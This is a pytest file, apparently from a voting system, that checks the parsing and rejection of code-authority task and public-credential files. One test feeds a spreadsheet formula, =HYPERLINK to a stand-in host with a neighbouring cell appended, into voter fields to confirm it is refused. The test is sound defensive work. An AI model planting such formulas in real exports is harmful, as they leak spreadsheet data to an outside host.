"""The code authority's two files are read back as they were made, and nothing else is taken."""

import json
import secrets
from typing import Any

import pytest

from stembus.protocol.codes_task import CodesTask, PollTask, Recipient, make_task, parse_task
from stembus.protocol.credential import make_pair
from stembus.protocol.errors import Code, Rejected
from stembus.protocol.group import group
from stembus.protocol.public_creds import make_public_creds, parse_public_creds

ED25519 = group("Ed25519")
NORTH, SOUTH = "NorthNorthNorth", "SouthSouthSouth"
ANN = Recipient("1", "Ann", "ann@x.nl", "nl", 1)
BEN = Recipient("2", "Ben", "Street 1\n1234 AB Town", "en", 3)
CAS = Recipient("3", "", "cas@x.nl", "nl", 1)
TASK = CodesTask(
    *("an election", "Council", "https://stem.example", ED25519),
    polls=[PollTask(NORTH, "North", [ANN, BEN]), PollTask(SOUTH, "South", [CAS])],
)
IDENTITY = ED25519.encode(ED25519.power(ED25519.generator, 0))


def credential(uuid: str) -> str:
    return make_pair(ED25519, uuid, secrets.token_bytes)[1]


CREDENTIALS = {
    NORTH: [(credential(NORTH), 1), (credential(NORTH), 3)],
    SOUTH: [(credential(SOUTH), 1)],
}
HANDED_IN = json.loads(make_public_creds(TASK, CREDENTIALS))


def altered(value: Any, path: tuple[str | int, ...], new: object) -> bytes:
    copy = json.loads(json.dumps(value))
    at = copy
    for step in path[:-1]:
        at = at[step]
    at[path[-1]] = new
    return json.dumps(copy).encode()


def refused(read, *given: object) -> Code:
    with pytest.raises(Rejected) as why:
        read(*given)
    return why.value.code


def test_a_task_is_read_back() -> None:
    assert parse_task(make_task(TASK)) == TASK


@pytest.mark.parametrize(
    ("path", "new"),
    [
        (("type",), "other"),
        (("version",), 2),
        (("group",), "P-256"),
        (("polls",), {}),
        (("polls", 0, "voters"), "Ann"),
        (("polls", 0, "voters", 0), {"reference": "1"}),
        (("polls", 0, "voters", 0, "weight"), "1"),
        (("more",), 1),
    ],
)
def test_another_file_is_no_task(path: tuple[str | int, ...], new: object) -> None:
    raw = altered(json.loads(make_task(TASK)), path, new)
    assert refused(parse_task, raw) == Code.CODES_TASK_SHAPE


@pytest.mark.parametrize("field", ["name", "address", "reference", "language"])
def test_a_task_has_no_text_that_a_spreadsheet_would_compute(field: str) -> None:
    path = ("polls", 0, "voters", 0, field)
    raw = altered(json.loads(make_task(TASK)), path, ' =HYPERLINK("https://x.nl/"&F2)')
    assert refused(parse_task, raw) == Code.CODES_TASK_FORMULA


def test_credentials_are_read_back() -> None:
    assert parse_public_creds(make_public_creds(TASK, CREDENTIALS), TASK) == {
        uuid: dict(pairs) for uuid, pairs in CREDENTIALS.items()
    }


def test_credentials_are_not_in_the_order_of_the_roll() -> None:
    pairs = [(credential(NORTH), 1) for _ in range(20)]
    task = CodesTask("e", "n", "o", ED25519, [PollTask(NORTH, "", [ANN] * 20)])
    listed = json.loads(make_public_creds(task, {NORTH: pairs}))["polls"][0]["credentials"]
    assert listed == sorted(key for key, _ in pairs)


NORTHS, SOUTHS = ("polls", 0, "credentials"), ("polls", 1, "credentials")
LISTED = HANDED_IN["polls"][0]["credentials"]


@pytest.mark.parametrize(
    ("path", "new", "code"),
    [
        (("type",), "stembus-codes-task", Code.PUBLIC_CREDS_SHAPE),
        (("version",), 2, Code.PUBLIC_CREDS_SHAPE),
        (("polls",), HANDED_IN["polls"][:1], Code.PUBLIC_CREDS_SHAPE),
        (("polls",), HANDED_IN["polls"][::-1], Code.PUBLIC_CREDS_SHAPE),
        (NORTHS, [1, 2], Code.PUBLIC_CREDS_SHAPE),
        (NORTHS, [LISTED[0], LISTED[1].split(",")[0] + ",-3"], Code.PUBLIC_CREDS_SHAPE),
        (("election",), "another", Code.PUBLIC_CREDS_OTHER_ELECTION),
        (("task",), "0" * 64, Code.PUBLIC_CREDS_STALE),
        (NORTHS, LISTED[:1], Code.PUBLIC_CREDS_COUNT),
        (NORTHS, [*LISTED, credential(NORTH)], Code.PUBLIC_CREDS_COUNT),
        (SOUTHS, [credential(SOUTH) + ",2"], Code.PUBLIC_CREDS_WEIGHTS),
        (NORTHS, [credential(NORTH), credential(NORTH)], Code.PUBLIC_CREDS_WEIGHTS),
        (NORTHS, LISTED[::-1], Code.PUBLIC_CREDS_ORDER),
        (SOUTHS, [CREDENTIALS[SOUTH][0][0] + ",1"], Code.PUBLIC_CREDS_ORDER),
        (NORTHS, [LISTED[0], LISTED[0]], Code.CREDENTIALS_DUPLICATE),
        (SOUTHS, [CREDENTIALS[NORTH][0][0]], Code.CREDENTIALS_DUPLICATE),
        (SOUTHS, ["00" * 32], Code.ELEMENT_INVALID),
        (SOUTHS, [IDENTITY], Code.ELEMENT_INVALID),
        (SOUTHS, [""], Code.ELEMENT_INVALID),
    ],
)
def test_other_than_what_the_task_asks_for_is_refused(
    path: tuple[str | int, ...], new: object, code: Code
) -> None:
    assert refused(parse_public_creds, altered(HANDED_IN, path, new), TASK) == code


@pytest.mark.parametrize(
    "other",
    [
        Recipient("1", "Ann", "ann@y.nl", "nl", 1),
        Recipient("1", "Ann", "ann@x.nl", "nl", 2),
        Recipient("4", "Ann", "ann@x.nl", "nl", 1),
    ],
)
def test_credentials_for_another_roll_are_stale(other: Recipient) -> None:
    polls = [PollTask(NORTH, "North", [other, BEN]), TASK.polls[1]]
    changed = CodesTask(TASK.election, TASK.name, TASK.origin, ED25519, polls)
    raw = make_public_creds(TASK, CREDENTIALS)
    assert refused(parse_public_creds, raw, changed) == Code.PUBLIC_CREDS_STALE


def test_another_name_of_the_election_or_a_ballot_paper_changes_no_fingerprint() -> None:
    polls = [PollTask(each.uuid, "renamed", each.voters) for each in TASK.polls]
    renamed = CodesTask(TASK.election, "Renamed", "https://y.example", ED25519, polls)
    assert renamed.fingerprint == TASK.fingerprint
